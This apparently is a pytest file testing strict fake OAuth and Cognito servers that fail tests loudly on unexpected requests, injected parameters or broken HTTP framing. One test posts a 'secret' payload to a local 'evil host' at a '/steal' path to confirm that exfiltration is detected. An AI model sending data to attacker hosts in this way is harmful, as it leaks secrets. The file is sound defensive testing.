"""A double that is asked for what no right client asks for makes the test fail."""

import socket

import pytest
import requests

from tests.doubles import Clock, Cognito, EvilHost, FakeIssuer
from tests.unit.doubles.walk import Walk, aws


def test_unknown_path_fails_the_test_at_close(clock: Clock) -> None:
    """An address that no double serves answers 500, and closing raises with the address."""
    issuer = FakeIssuer(now=clock)
    assert requests.get(f"{issuer.server.origin}/nowhere", timeout=5).status_code == 500
    with pytest.raises(AssertionError, match="GET /nowhere"):
        issuer.close()


def test_wrong_method_is_loud(cognito: Cognito) -> None:
    """A known path with another method answers 500 and is remembered."""
    assert (
        requests.get(f"{cognito.issuer.server.origin}/oauth2/token", timeout=5).status_code == 500
    )
    cognito.issuer.server.expect_complaint("GET /oauth2/token: only POST")


@pytest.mark.parametrize("missing", ["code", "redirect_uri", "code_verifier", "grant_type"])
def test_missing_parameter_is_loud(cognito: Cognito, walk: Walk, missing: str) -> None:
    """A token request that lacks a parameter is loud, not a quiet refusal."""
    assert walk.exchange(walk.code(), **{missing: ""}).status_code == 500
    cognito.issuer.server.expect_complaint(f"missing {missing}")


def test_unknown_and_repeated_parameters_are_loud(cognito: Cognito, walk: Walk) -> None:
    """Something injected into the token request does not pass unseen."""
    assert walk.exchange(walk.code(), audience="x").status_code == 500
    cognito.issuer.server.expect_complaint("audience")
    url = f"{cognito.issuer.server.origin}/oauth2/token"
    assert requests.post(url, [("code", "a"), ("code", "b")], timeout=5).status_code == 500
    cognito.issuer.server.expect_complaint("repeated code")


def test_signed_public_call_is_loud(cognito: Cognito) -> None:
    """GetId with a signature means that an ambient AWS identity was used."""
    target = "AWSCognitoIdentityService.GetId"
    document = {"IdentityPoolId": cognito.pool.identity_pool_id}
    answer = aws(cognito.pool.server.origin, target, document, Authorization="AWS4-HMAC-SHA256 x")
    assert answer.status_code == 500
    cognito.pool.server.expect_complaint("though it is a public call")


def test_unknown_action_is_loud(cognito: Cognito) -> None:
    """An action that the double lacks is a complaint, not an empty answer."""
    target = "AWSCognitoIdentityService.ListIdentities"
    assert aws(cognito.pool.server.origin, target, {}).status_code == 500
    cognito.pool.server.expect_complaint("ListIdentities")


def test_crash_in_the_double_is_loud(cognito: Cognito) -> None:
    """An exception in a programmed behaviour fails the test too."""
    cognito.issuer.jwks.mutate(lambda answer: answer.having(nonsense=1))
    url = f"{cognito.issuer.issuer}/.well-known/jwks.json"
    assert requests.get(url, timeout=5).status_code == 500
    cognito.issuer.server.expect_complaint("nonsense")


def test_broken_framing_is_loud(cognito: Cognito) -> None:
    """Bytes that are no HTTP request are remembered."""
    with socket.create_connection(("127.0.0.1", cognito.issuer.server.port), timeout=5) as talk:
        talk.sendall(b"nonsense\r\n\r\n")
        assert talk.recv(1) == b""
    cognito.issuer.server.expect_complaint("not an HTTP/1 request line")


def test_expecting_a_complaint_that_never_came_fails(cognito: Cognito) -> None:
    """A test cannot expect a complaint in vain."""
    with pytest.raises(AssertionError, match="no complaint holds"):
        cognito.issuer.server.expect_complaint("anything")


def test_error_in_the_test_keeps_its_cause(clock: Clock) -> None:
    """When the test itself fails, the complaints stand beside its error as a note."""

    def fail() -> None:
        with Cognito(now=clock) as cognito:
            requests.get(f"{cognito.api.server.origin}/nowhere", timeout=5)
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError) as caught:
        fail()
    assert "GET /nowhere" in caught.value.__notes__[0]


def test_evil_host_keeps_every_byte() -> None:
    """Whatever reaches the evil host is recorded, and a mere connection is enough to fail."""
    with EvilHost() as evil:
        evil.assert_untouched()
        requests.post(f"{evil.origin}/steal", data=b"secret", timeout=5)
        assert b"POST /steal" in evil.received
        with pytest.raises(AssertionError, match="evil host was reached"):
            evil.assert_untouched()
